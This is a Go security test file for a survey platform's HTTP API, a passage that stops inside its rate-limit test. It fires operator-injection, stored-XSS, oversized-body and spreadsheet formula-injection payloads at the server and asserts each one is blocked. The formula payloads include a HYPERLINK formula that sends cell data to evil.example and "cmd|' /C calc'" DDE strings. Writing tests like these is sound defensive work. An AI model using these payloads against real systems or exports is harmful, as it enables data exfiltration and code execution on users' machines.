package httpapi_test

// Attack tests (issue #7): hostile input, transport and output. Operator
// injection on every JSON route of openapi.json, stored XSS, formula
// injection in the exports, oversized bodies, rate limits behind a proxy,
// path traversal, security headers and cookie flags, secrets in the logs.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"mime/multipart"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"go.yaml.in/yaml/v3"

	"github.com/expertenrunde/expertenrunde/internal/config"
	"github.com/expertenrunde/expertenrunde/internal/delphi"
	"github.com/expertenrunde/expertenrunde/internal/httpapi"
	"github.com/expertenrunde/expertenrunde/internal/survey/surveytest"
)

// ---------------------------------------------------------------- operator injection

// openAPIJSONBodies reads, from the served OpenAPI document, every operation
// with an application/json request body and the top-level fields of its schema.
func openAPIJSONBodies(t *testing.T, e *env) map[string][]string {
	t.Helper()
	s, _, b := e.atkReq("GET", "/api/v1/openapi.json", "", "", nil, nil)
	if s != 200 {
		t.Fatalf("openapi: %d", s)
	}
	var doc struct {
		Paths map[string]map[string]struct {
			RequestBody struct {
				Content map[string]struct {
					Schema map[string]any `json:"schema"`
				} `json:"content"`
			} `json:"requestBody"`
		} `json:"paths"`
		Components struct {
			Schemas map[string]map[string]any `json:"schemas"`
		} `json:"components"`
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	out := map[string][]string{}
	for p, ops := range doc.Paths {
		for m, op := range ops {
			c, ok := op.RequestBody.Content["application/json"]
			if !ok {
				continue
			}
			schema := c.Schema
			if ref, ok := schema["$ref"].(string); ok {
				schema = doc.Components.Schemas[strings.TrimPrefix(ref, "#/components/schemas/")]
			}
			var fields []string
			if props, ok := schema["properties"].(map[string]any); ok {
				for f := range props {
					fields = append(fields, f)
				}
			}
			if _, ok := schema["additionalProperties"].(map[string]any); ok {
				fields = append(fields, "de", "en") // a map by language
			}
			out[strings.ToUpper(m)+" "+p] = fields
		}
	}
	if len(out) < 12 {
		t.Fatalf("only %d JSON request bodies in openapi.json", len(out))
	}
	return out
}

// TestAttackOperatorInjectionEveryJSONRoute sends, to every operation with
// a JSON body in openapi.json, an otherwise valid body with one field
// replaced by a MongoDB operator (top level and nested), and bodies with
// $-prefixed and dotted keys: each is 422, never 2xx or 500, and the
// database is unchanged.
func TestAttackOperatorInjectionEveryJSONRoute(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t)
	x := e.addExpert(ptStudy, "wiss")
	xJWT := e.session(x)
	e.expertCall(x, "POST", "/api/v1/participation/consent", "", 200)
	future := e.ts(10 * 24 * time.Hour)
	other := e.users["coord-b"].ID
	// The study definition as JSON, for the JSON upload.
	var defDoc map[string]any
	if err := yaml.Unmarshal([]byte(readFile(t, "testdata/participation-study.yaml")), &defDoc); err != nil {
		t.Fatal(err)
	}
	defDoc["version"] = "fuzz"
	// A valid body per operation: a refusal is then the injection's doing.
	base := map[string]map[string]any{
		"POST /api/v1/auth/login":                          {"email": "admin@example.org", "password": testPassword},
		"POST /api/v1/users":                               {"email": "fuzz@example.org", "role": "researcher", "password": "twelve-chars!!", "name": "F", "survey_ids": []string{ks}},
		"PATCH /api/v1/users/{id}":                         {"name": "F", "role": "researcher", "survey_ids": []string{ks}},
		"POST /api/v1/surveys":                             defDoc,
		"POST /api/v1/surveys/{id}/rounds":                 {"deadline": future},
		"PATCH /api/v1/surveys/{id}/rounds/{n}":            {"deadline": future},
		"POST /api/v1/surveys/{id}/rounds/{n}/reopen":      {"reason": "r", "deadline": future},
		"POST /api/v1/participation/session":               {"token": x.token},
		"PUT /api/v1/participation/answers/{itemId}":       {"value": 4, "comment": "ok", "justification": "", "seq": 5},
		"PUT /api/v1/participation/answers":                {"answers": []any{map[string]any{"item_id": "r1", "value": 4, "comment": "ok", "justification": "", "seq": 6}}},
		"POST /api/v1/surveys/{id}/experts":                {"name": "F", "email": "fuzz@example.org", "organisation": "O", "group": "wiss", "language": "de", "notes": "n"},
		"PATCH /api/v1/surveys/{id}/experts/{expertId}":    {"name": "F", "notes": "n"},
		"POST /api/v1/surveys/{id}/rounds/{n}/invitations": {"group": "wiss", "keep_links": true, "min_interval_hours": 0},
		"POST /api/v1/surveys/{id}/rounds/{n}/reminders":   {"group": "wiss", "keep_links": true, "min_interval_hours": 0},
		"PUT /api/v1/surveys/{id}/rounds/{n}/mail":         {"de": map[string]any{"subject": "s", "intro": "i"}, "en": map[string]any{"subject": "s", "intro": "i"}},
		// The study has no arguments: the injections are refused when the body is decoded, before that.
		"POST /api/v1/participation/arguments":                     {"item_id": "r1", "option_id": "", "stance": "pro", "text": "t"},
		"PUT /api/v1/participation/arguments/{argumentId}":         {"option_id": "", "stance": "pro", "text": "t"},
		"POST /api/v1/participation/arguments/{argumentId}/rating": {"value": 3},
		"POST /api/v1/surveys/{id}/arguments/{argumentId}/hide":    {"reason": "r"},
		"POST /api/v1/surveys/{id}/arguments/{argumentId}/unhide":  {"reason": "r"},
		// The study has no round 0: likewise.
		"POST /api/v1/participation/suggestions":                      {"section_id": "a", "text": "t", "rationale": "r"},
		"PUT /api/v1/participation/suggestions/{sid}":                 {"section_id": "a", "text": "t", "rationale": "r"},
		"POST /api/v1/surveys/{id}/curation/items":                    {"action": "accept", "suggestions": []string{"no-such-suggestion"}, "reason": "r", "items": []any{}},
		"PATCH /api/v1/surveys/{id}/curation/items/{itemId}":          {"text": map[string]any{"de": "t", "en": "t"}, "help": map[string]any{"de": "h", "en": "h"}, "reason": "r"},
		"POST /api/v1/surveys/{id}/curation/suggestions/{sid}/reject": {"reason": "r"},
	}
	vals := map[string]string{"id": ptStudy, "n": "1", "expertId": x.ID, "itemId": "r1", "argumentId": "no-such-argument", "sid": "no-such-suggestion"}
	ops := []any{
		map[string]any{"$gt": ""},
		map[string]any{"$ne": nil},
		map[string]any{"$regex": ".*"},
		map[string]any{"$where": "sleep(1000)"},
		[]any{map[string]any{"$ne": nil}},
		map[string]any{"a": map[string]any{"$gt": ""}},
		map[string]any{"a.b": 1},
	}
	ops2 := []string{`{"$where":"1"}`, `{"$set":{"role":"admin"}}`, `{"a.b":1}`, `{"$gt":""}`}
	usersBefore, _ := e.st.ListUsers(context.Background())
	expertsBefore, _ := e.st.ListExperts(context.Background(), ptStudy)

	bodies := openAPIJSONBodies(t, e)
	total := 0
	for op, fields := range bodies {
		method, path, _ := strings.Cut(op, " ")
		b, ok := base[op]
		if !ok {
			t.Errorf("%s takes JSON, but the fuzz has no valid base body for it; add one", op)
			continue
		}
		v := vals
		if op == "POST /api/v1/surveys/{id}/rounds" {
			v = map[string]string{"id": cosStudy} // a study without rounds: round 1 could be created
		}
		if strings.HasPrefix(path, "/api/v1/users/") {
			v = map[string]string{"id": other}
		}
		target := fill(t, path, v)
		bearer := e.login("admin")
		switch {
		case strings.HasPrefix(path, "/api/v1/participation/answers"), strings.HasPrefix(path, "/api/v1/participation/arguments"), strings.HasPrefix(path, "/api/v1/participation/suggestions"):
			bearer = xJWT
		case op == "POST /api/v1/auth/login" || op == "POST /api/v1/participation/session":
			bearer = ""
		}
		var payloads [][]byte
		for _, f := range fields {
			for _, o := range ops {
				m := map[string]any{}
				for k, val := range b {
					m[k] = val
				}
				m[f] = o
				payloads = append(payloads, mustJSON(m))
			}
			// The operator as a key next to a valid value, and a nested key.
			m := map[string]any{}
			for k, val := range b {
				m[k] = val
			}
			m[f+".x"] = 1
			m["$"+f] = "x"
			payloads = append(payloads, mustJSON(m))
		}
		for _, o := range ops2 {
			payloads = append(payloads, []byte(o))
			m := map[string]any{}
			for k, val := range b {
				m[k] = val
			}
			var extra map[string]any
			_ = json.Unmarshal([]byte(o), &extra)
			for k, val := range extra {
				m[k] = val
			}
			payloads = append(payloads, mustJSON(m))
		}
		if strings.HasPrefix(path, "/api/v1/participation/answers") {
			for _, p := range []string{`{"value":{"imp":{"$gt":""},"feas":2},"seq":7}`, `{"value":{"imp":4,"feas":2,"$ne":null},"seq":7}`, `{"value":{"$ne":null},"seq":7}`} {
				payloads = append(payloads, []byte(p))
			}
		}
		for _, p := range payloads {
			total++
			tgt := target
			if strings.HasPrefix(path, "/api/v1/participation/answers") && bytes.Contains(p, []byte(`"imp"`)) {
				tgt = "/api/v1/participation/answers/m1"
			}
			s, _, rb := e.atkReq(method, tgt, bearer, "application/json", p, nil)
			if s != 422 {
				t.Errorf("%s with %s: %d %.200s, want 422", op, p, s, rb)
			}
		}
		// The base body itself is accepted or refused for a reason other than
		// its form (so the 422s above are the injections' doing).
		s, _, rb := e.atkReq(method, target, bearer, "application/json", mustJSON(b), nil)
		if s == 422 || s == 400 || s >= 500 {
			t.Errorf("control: %s with its valid base body: %d %.300s", op, s, rb)
		}
	}
	if total < 300 {
		t.Fatalf("only %d payloads sent", total)
	}
	// Nothing reached the database except the control bodies' own effects:
	// one user (fuzz@) and one expert (fuzz@) were created by the controls.
	usersAfter, _ := e.st.ListUsers(context.Background())
	expertsAfter, _ := e.st.ListExperts(context.Background(), ptStudy)
	if len(usersAfter) != len(usersBefore)+1 || len(expertsAfter) != len(expertsBefore)+1 {
		t.Errorf("users %d→%d, experts %d→%d: an injection was stored", len(usersBefore), len(usersAfter), len(expertsBefore), len(expertsAfter))
	}
	for _, u := range usersAfter {
		if u.ID == other && u.Role != "coordinator" && u.Role != "researcher" {
			t.Errorf("coordinator B's role became %q", u.Role)
		}
	}
}

// TestAttackOperatorInjectionQueryAndPath: query parameters reach the
// handlers as plain strings (Fiber does not build objects from
// group[$ne]=x), and operator-looking path parameters are just unknown ids.
func TestAttackOperatorInjectionQueryAndPath(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t)
	for i, g := range []string{"wiss", "praxis", "wiss"} {
		e.staff("POST", "/api/v1/surveys/"+ptStudy+"/experts", "admin", fmt.Sprintf(`{"name":"P%d","email":"p%d@example.org","group":%q}`, i, i, g), 201)
	}
	panel := "/api/v1/surveys/" + ptStudy + "/experts"
	count := func(q string) (int, int) {
		s, b := e.call("GET", panel+q, e.login("admin"), "")
		if s != 200 {
			return s, -1
		}
		return s, len(decode[struct{ Experts []expertOut }](t, b).Experts)
	}
	if s, n := count("?group=wiss"); s != 200 || n != 2 {
		t.Fatalf("control: group=wiss gives %d, %d experts", s, n)
	}
	for _, q := range []string{"?group[$ne]=wiss", "?group[$regex]=.*", "?status[$ne]=active", "?group.$ne=x", "?round[$gt]=0"} {
		// Not an operator: the key is simply not "group", so no filter.
		if s, n := count(q); s != 200 || n != 3 {
			t.Errorf("%s: %d, %d experts; want the unfiltered 3", q, s, n)
		}
	}
	for _, q := range []string{"?group=" + url_(`{"$ne":null}`), "?group=" + url_(`{"$ne":"wiss"}`), "?status=" + url_(`{"$ne":null}`), "?round=" + url_(`{"$gt":0}`)} {
		if s, _ := count(q); s != 422 {
			t.Errorf("%s: %d, want 422 (a literal, unknown value)", q, s)
		}
	}
	// The audit log filter: a literal string matches nothing.
	if b := e.staff("GET", "/api/v1/audit?survey_id="+url_(`{"$ne":null}`), "admin", "", 200); !bytes.Contains(b, []byte(`"entries":[]`)) {
		t.Errorf("audit with an operator-looking survey_id: %.300s", b)
	}
	if b := e.staff("GET", "/api/v1/audit?survey_id="+ptStudy, "admin", "", 200); bytes.Contains(b, []byte(`"entries":[]`)) {
		t.Errorf("control: the audit log of the study is empty")
	}
	e.staff("GET", "/api/v1/surveys/"+ptStudy+"/export.csv?rounds="+url_(`{"$ne":1}`), "admin", "", 422)
	// Path parameters: ids, never operators.
	for _, p := range []string{"%24ne", url_(`{"$ne":null}`), "%24where", "a.b", "%00"} {
		for _, u := range []string{"/api/v1/surveys/" + p, "/api/v1/surveys/" + p + "/rounds", "/api/v1/surveys/" + ptStudy + "/experts/" + p, "/api/v1/surveys/" + ptStudy + "/rounds/" + p} {
			if s, b := e.call("GET", u, e.login("admin"), ""); s != 404 {
				t.Errorf("GET %s: %d %.200s, want 404", u, s, b)
			}
		}
		if s, b := e.call("PATCH", "/api/v1/users/"+p, e.login("admin"), `{"name":"x"}`); s != 404 {
			t.Errorf("PATCH user %s: %d %.200s", p, s, b)
		}
		for _, op := range []string{"disable", "enable"} {
			if s, b := e.call("POST", "/api/v1/users/"+p+"/"+op, e.login("admin"), ""); s != 404 {
				t.Errorf("POST user %s/%s: %d %.200s", p, op, s, b)
			}
		}
	}
	x := e.addExpert(ptStudy, "wiss")
	e.expertCall(x, "POST", "/api/v1/participation/consent", "", 200)
	for _, p := range []string{"%24where", url_(`{"$gt":""}`), "r1.value", "r1%00"} {
		e.expertCall(x, "PUT", "/api/v1/participation/answers/"+p, `{"value":3,"seq":1}`, 404)
	}
}

func url_(s string) string {
	return strings.NewReplacer("{", "%7B", "}", "%7D", `"`, "%22", "$", "%24", ":", "%3A", " ", "%20").Replace(s)
}

// ---------------------------------------------------------------- stored XSS

const xssComment = `<script>alert(1)</script><img src=x onerror=alert(2)>"'&`

// findString reports whether the JSON document holds s as a string value.
func findString(v any, s string) bool {
	switch t := v.(type) {
	case string:
		return t == s
	case map[string]any:
		for _, c := range t {
			if findString(c, s) {
				return true
			}
		}
	case []any:
		for _, c := range t {
			if findString(c, s) {
				return true
			}
		}
	}
	return false
}

// TestAttackStoredXSSIsJSON: hostile text saved by an expert comes back
// from the results, feedback and participation APIs as a JSON string with
// Content-Type application/json and nosniff, never as markup; the mail
// preview escapes a coordinator's markup.
func TestAttackStoredXSSIsJSON(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t)
	x := e.addExpert(ptStudy, "wiss")
	e.expertCall(x, "POST", "/api/v1/participation/consent", "", 200)
	e.expertCall(x, "PUT", "/api/v1/participation/answers/r1", string(mustJSON(map[string]any{"value": 4, "comment": xssComment, "seq": 1})), 200)
	e.expertCall(x, "PUT", "/api/v1/participation/answers/t1", `{"value":"<svg onload=alert()>","seq":1}`, 200)
	e.expertCall(x, "POST", "/api/v1/participation/submit", "", 200)
	e.staff("POST", "/api/v1/surveys/"+ptStudy+"/rounds/1/close", "admin", "", 200)
	e.openRound(ptStudy, `{"deadline":"`+e.ts(7*24*time.Hour)+`","carry_over":{"mode":"all"}}`)

	check := func(name string, s int, h http.Header, b []byte, wants ...string) {
		t.Helper()
		if s != 200 {
			t.Fatalf("%s: %d %.300s", name, s, b)
		}
		if ct := h.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
			t.Errorf("%s: Content-Type %q", name, ct)
		}
		if h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: no nosniff", name)
		}
		if bytes.Contains(b, []byte("<script")) || bytes.Contains(b, []byte("<img")) || bytes.Contains(b, []byte("<svg")) {
			t.Errorf("%s: raw markup in the JSON: %.300s", name, b)
		}
		var doc any
		if err := json.Unmarshal(b, &doc); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, want := range wants {
			if !findString(doc, want) {
				t.Errorf("%s: the text %q is not in the answer as a string", name, want)
			}
		}
	}
	s, h, b := e.atkReq("GET", "/api/v1/surveys/"+ptStudy+"/rounds/1/results", e.login("researcher"), "", nil, nil)
	if s == 404 { // the researcher is not assigned to pt-study; the admin is
		s, h, b = e.atkReq("GET", "/api/v1/surveys/"+ptStudy+"/rounds/1/results", e.login("admin"), "", nil, nil)
	}
	check("results", s, h, b, xssComment, "<svg onload=alert()>")
	s, h, b = e.atkReq("GET", "/api/v1/surveys/"+ptStudy+"/export.json", e.login("admin"), "", nil, nil)
	check("export.json", s, h, b)
	// Another expert sees the comment as feedback in round 2.
	y := e.addExpert(ptStudy, "praxis")
	s, h, b = e.atkReq("GET", "/api/v1/participation", e.session(y), "", nil, nil)
	check("feedback to another expert", s, h, b, xssComment)
	// Error messages that echo input are JSON too.
	s, h, b = e.atkReq("PUT", "/api/v1/participation/answers/%3Cscript%3Ealert(1)%3C%2Fscript%3E", y.jwt, "application/json", []byte(`{"value":1,"seq":1}`), nil)
	if s == 200 || !strings.HasPrefix(h.Get("Content-Type"), "application/json") || bytes.Contains(b, []byte("<script")) {
		t.Errorf("error echoing the item id: %d %q %s", s, h.Get("Content-Type"), b)
	}
	// The mail preview escapes the coordinator's markup in the HTML part.
	e.staff("PUT", "/api/v1/surveys/"+ptStudy+"/rounds/2/mail", "admin", `{"de":{"subject":"<b>s</b>","intro":"<script>alert(4)</script><a href=\"javascript:alert(5)\">x</a>"}}`, 200)
	pv := decode[struct{ HTML, Text string }](t, e.staff("GET", "/api/v1/surveys/"+ptStudy+"/rounds/2/mail/preview?lang=de", "admin", "", 200))
	if strings.Contains(pv.HTML, "<script>alert(4)") || strings.Contains(pv.HTML, `href="javascript:`) || !strings.Contains(pv.HTML, "&lt;script&gt;") {
		t.Errorf("the mail preview's HTML does not escape the intro: %s", pv.HTML)
	}
}

// TestAttackFrontendRendersNoHTML guards the UI: no source file outside the
// tests injects markup (dangerouslySetInnerHTML, innerHTML, outerHTML,
// insertAdjacentHTML, document.write, eval), and the only srcDoc (the mail
// preview) is in a sandboxed iframe without permissions.
func TestAttackFrontendRendersNoHTML(t *testing.T) {
	t.Parallel()
	root := filepath.Join("..", "..", "frontend", "src")
	bad := regexp.MustCompile(`dangerouslySetInnerHTML|\.innerHTML|\.outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function\(|createContextualFragment|DOMParser`)
	srcDoc := regexp.MustCompile(`<iframe[^>]*srcDoc=`)
	sandboxed := regexp.MustCompile(`<iframe[^>]*\ssandbox=""[^>]*srcDoc=|<iframe[^>]*srcDoc=[^>]*\ssandbox=""`)
	files := 0
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		if !strings.HasSuffix(p, ".ts") && !strings.HasSuffix(p, ".tsx") || strings.Contains(p, ".test.") || strings.Contains(p, string(filepath.Separator)+"test"+string(filepath.Separator)) {
			return nil
		}
		files++
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		src := string(b)
		if m := bad.FindString(src); m != "" {
			t.Errorf("%s uses %s", p, m)
		}
		for _, m := range srcDoc.FindAllStringIndex(src, -1) {
			end := strings.Index(src[m[0]:], "/>")
			if end < 0 || !sandboxed.MatchString(src[m[0]:m[0]+end]) {
				t.Errorf("%s has an iframe srcDoc without sandbox=\"\"", p)
			}
		}
		if strings.Contains(src, "@observablehq/plot") && (strings.Contains(src, "Plot.html") || strings.Contains(src, "html`")) {
			t.Errorf("%s builds Plot marks from HTML", p)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if files < 20 {
		t.Fatalf("only %d frontend source files found under %s", files, root)
	}
	// index.html: no inline script (the CSP forbids it anyway), and no
	// weaker referrer policy than the server's no-referrer, which keeps the
	// personal link /p/<token> out of Referer headers.
	index, err := os.ReadFile(filepath.Join("..", "..", "frontend", "index.html"))
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range regexp.MustCompile(`<script[^>]*>`).FindAllString(string(index), -1) {
		if !strings.Contains(m, "src=") {
			t.Errorf("index.html has an inline script: %s", m)
		}
	}
	if m := regexp.MustCompile(`<meta name="referrer" content="([^"]*)"`).FindStringSubmatch(string(index)); m != nil && m[1] != "no-referrer" {
		t.Errorf("index.html sets the referrer policy %q, weaker than no-referrer", m[1])
	}
}

// ---------------------------------------------------------------- formula injection

var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// csvFieldsSafe fails on every non-numeric CSV field that a spreadsheet
// would read as a formula.
func csvFieldsSafe(t *testing.T, name string, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF"))))
	r.FieldsPerRecord = -1
	if bytes.Count(data[:min(len(data), 500)], []byte(";")) > bytes.Count(data[:min(len(data), 500)], []byte(",")) {
		r.Comma = ';'
	}
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	for i, row := range rows {
		for j, f := range row {
			if f == "" || !strings.ContainsRune("=+-@\t\r", rune(f[0])) {
				continue
			}
			if _, err := strconv.ParseFloat(f, 64); err == nil {
				continue // a number, e.g. -2
			}
			t.Errorf("%s row %d column %d starts a formula: %q", name, i+1, j+1, f)
		}
	}
	return rows
}

// xlsxNoFormulas opens a workbook and fails on any formula cell; it
// returns the string cells that hold each wanted text.
func xlsxNoFormulas(t *testing.T, name string, data []byte, want []string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	defer f.Close()
	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
					t.Errorf("%s %s!%s is the formula %q", name, sheet, cell, fm)
				}
				for _, w := range want {
					if strings.TrimSpace(v) == strings.TrimSpace(w) || strings.TrimSpace(strings.TrimPrefix(v, "'")) == strings.TrimSpace(w) {
						found[w] = true
						if ct, _ := f.GetCellType(sheet, cell); ct != excelize.CellTypeSharedString && ct != excelize.CellTypeInlineString && ct != excelize.CellTypeUnset {
							t.Errorf("%s %s!%s holding %q has cell type %v, not a string", name, sheet, cell, w, ct)
						}
					}
				}
			}
		}
	}
	for _, w := range want {
		if !found[w] {
			t.Errorf("%s: the text %q is not in any cell", name, w)
		}
	}
}

// TestAttackFormulaInjectionInExports: hostile comments and answers saved
// through the participation API, and hostile contact data saved through the
// panel API, come out of every spreadsheet export as string cells without a
// formula (XLSX) and neutralised (CSV).
func TestAttackFormulaInjectionInExports(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t)
	var hostileAnswers []string
	for i, h := range hostileTexts {
		x := e.addExpert(ptStudy, []string{"wiss", "praxis"}[i%2])
		e.expertCall(x, "POST", "/api/v1/participation/consent", "", 200)
		e.expertCall(x, "PUT", "/api/v1/participation/answers/r1", string(mustJSON(map[string]any{"value": 1 + i%5, "comment": h, "seq": 1})), 200)
		if len([]rune(h)) <= 20 {
			e.expertCall(x, "PUT", "/api/v1/participation/answers/t1", string(mustJSON(map[string]any{"value": h, "seq": 1})), 200)
			hostileAnswers = append(hostileAnswers, h)
		}
		e.expertCall(x, "POST", "/api/v1/participation/submit", "", 200)
	}
	e.staff("POST", "/api/v1/surveys/"+ptStudy+"/rounds/1/close", "admin", "", 200)

	// The results export.
	s, h, xlsx := e.atkReq("GET", "/api/v1/surveys/"+ptStudy+"/export.xlsx", e.login("admin"), "", nil, nil)
	if s != 200 || !strings.Contains(h.Get("Content-Disposition"), "attachment") {
		t.Fatalf("export.xlsx: %d %v", s, h)
	}
	xlsxNoFormulas(t, "export.xlsx", xlsx, append(append([]string{}, hostileTexts[:4]...), hostileAnswers...))
	s, h, data := e.atkReq("GET", "/api/v1/surveys/"+ptStudy+"/export.csv", e.login("admin"), "", nil, nil)
	if s != 200 || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
		t.Fatalf("export.csv: %d %q", s, h.Get("Content-Type"))
	}
	rows := csvFieldsSafe(t, "export.csv", data)
	if len(rows) < 2 {
		t.Fatalf("export.csv has %d rows", len(rows))
	}
	// The long CSV carries no free text at all (docs/EXPORT.md): a hostile
	// text is neither there raw nor neutralised.
	for _, h := range hostileTexts[:4] {
		if bytes.Contains(data, []byte(h)) {
			t.Errorf("export.csv holds the free text %q", h)
		}
	}

	// The panel exports and the link lists, with hostile contact data.
	hostileName := `=HYPERLINK("http://evil.example","x")`
	e.staff("POST", "/api/v1/surveys/"+ptStudy+"/experts", "admin", string(mustJSON(map[string]any{
		"name": hostileName, "email": "formula@example.org", "organisation": "@SUM(1+1)*cmd|' /C calc'!A0", "group": "wiss", "notes": "+cmd|' /C calc'!A0",
	})), 201)
	for _, u := range []string{"/experts/export.csv", "/experts/links.csv"} {
		method := "GET"
		if strings.Contains(u, "links") {
			method = "POST"
		}
		s, _, data := e.atkReq(method, "/api/v1/surveys/"+ptStudy+u, e.login("admin"), "", nil, nil)
		if s != 200 {
			t.Fatalf("%s: %d %s", u, s, data)
		}
		if !bytes.Contains(data, []byte(`'=HYPERLINK(`)) {
			t.Errorf("%s: the hostile name is not neutralised with a leading ': %.300s", u, data)
		}
		csvFieldsSafe(t, u, data)
	}
	for _, u := range []string{"/experts/export.xlsx", "/experts/links.xlsx"} {
		method := "GET"
		if strings.Contains(u, "links") {
			method = "POST"
		}
		s, _, data := e.atkReq(method, "/api/v1/surveys/"+ptStudy+u, e.login("admin"), "", nil, nil)
		if s != 200 {
			t.Fatalf("%s: %d %s", u, s, data)
		}
		xlsxNoFormulas(t, u, data, []string{hostileName})
	}
}

// ---------------------------------------------------------------- oversized bodies

// rawHTTP sends a raw request on a fresh connection and reads the answer.
func rawHTTP(t *testing.T, addr, head string, body []byte, readFirst bool) (int, []byte) {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(netTimeout))
	if _, err := io.WriteString(conn, head); err != nil {
		t.Fatal(err)
	}
	if !readFirst {
		_, _ = conn.Write(body) // the server may close early
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, b
}

// TestAttackOversizedBodies: staff, expert and public routes and both
// multipart uploads answer 413 beyond the body limit, announced with
// Content-Length or sent chunked.
func TestAttackOversizedBodies(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t)
	x := e.addExpert(ptStudy, "wiss")
	xJWT := e.session(x)
	admin := e.login("admin")
	if err := e.srv.Listen("127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	defer e.srv.Shutdown()
	addr := e.srv.Addr()
	big := bytes.Repeat([]byte("a"), 300<<10) // the limit is 256 KiB

	multipartBody := func(name string) (string, []byte) {
		var buf bytes.Buffer
		w := multipart.NewWriter(&buf)
		fw, _ := w.CreateFormFile("file", name)
		_, _ = fw.Write(big)
		_ = w.Close()
		return w.FormDataContentType(), buf.Bytes()
	}
	panelCT, panelBody := multipartBody("panel.csv")
	surveyCT, surveyBody := multipartBody("study.yaml")
	cases := []struct {
		name, method, path, auth, ctype string
		body                            []byte
	}{
		{"login (public)", "POST", "/api/v1/auth/login", "", "application/json", big},
		{"link exchange (public)", "POST", "/api/v1/participation/session", "", "application/json", big},
		{"expert answer", "PUT", "/api/v1/participation/answers/r1", xJWT, "application/json", big},
		{"staff JSON", "POST", "/api/v1/surveys/" + ptStudy + "/experts", admin, "application/json", big},
		{"study upload, raw", "POST", "/api/v1/surveys", admin, "application/yaml", big},
		{"study upload, multipart", "POST", "/api/v1/surveys", admin, surveyCT, surveyBody},
		{"panel import, multipart", "POST", "/api/v1/surveys/" + ptStudy + "/experts/import", admin, panelCT, panelBody},
	}
	for _, c := range cases {
		auth := ""
		if c.auth != "" {
			auth = "Authorization: Bearer " + c.auth + "\r\n"
		}
		head := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: x\r\n%sContent-Type: %s\r\n", c.method, c.path, auth, c.ctype)
		// Announced with Content-Length: refused before the body is read.
		s, b := rawHTTP(t, addr, head+fmt.Sprintf("Content-Length: %d\r\n\r\n", len(c.body)), nil, true)
		if s != 413 || !bytes.Contains(b, []byte(`"code":"too_large"`)) {
			t.Errorf("%s, Content-Length: %d %.200s", c.name, s, b)
		}
		// Chunked, without a length: refused while reading.
		var chunked bytes.Buffer
		for off := 0; off < len(c.body); off += 32 << 10 {
			end := min(off+32<<10, len(c.body))
			fmt.Fprintf(&chunked, "%x\r\n%s\r\n", end-off, c.body[off:end])
		}
		chunked.WriteString("0\r\n\r\n")
		s, b = rawHTTP(t, addr, head+"Transfer-Encoding: chunked\r\n\r\n", chunked.Bytes(), false)
		if s != 413 {
			t.Errorf("%s, chunked: %d %.200s", c.name, s, b)
		}
	}
	// The control: a body under the limit is read.
	s, b := rawHTTP(t, addr, "POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n", []byte("{}"), false)
	if s != 422 {
		t.Errorf("control: a small body: %d %s", s, b)
	}
}

// ---------------------------------------------------------------- rate limits and the client IP

// TestAttackRateLimitsBehindProxy: guessing link tokens and passwords is
// limited per client IP. Without TrustProxy, X-Forwarded-For is ignored;
// with it, only the entry our proxy appended (the last) counts, so a
// client cannot pick a fresh key per request; IPv6 clients are counted
// per /64.
func TestAttackRateLimitsBehindProxy(t *testing.T) {
	t.Parallel()
	guess := func(e *env, xff string) int {
		tok, _ := delphi.NewAccessToken()
		s, _, _ := e.atkReq("POST", "/api/v1/participation/session", "", "application/json", []byte(`{"token":"`+tok+`"}`), map[string]string{"X-Forwarded-For": xff})
		return s
	}
	login := func(e *env, i int, xff string) int {
		s, _, _ := e.atkReq("POST", "/api/v1/auth/login", "", "application/json", []byte(fmt.Sprintf(`{"email":"guess%d@example.org","password":"wrong-password-123"}`, i)), map[string]string{"X-Forwarded-For": xff})
		return s
	}
	t.Run("no proxy: X-Forwarded-For is ignored", func(t *testing.T) {
		e := newAttackEnv(t)
		for i := range 20 {
			if s := guess(e, fmt.Sprintf("10.0.%d.1", i)); s != 404 {
				t.Fatalf("guess %d: %d", i+1, s)
			}
		}
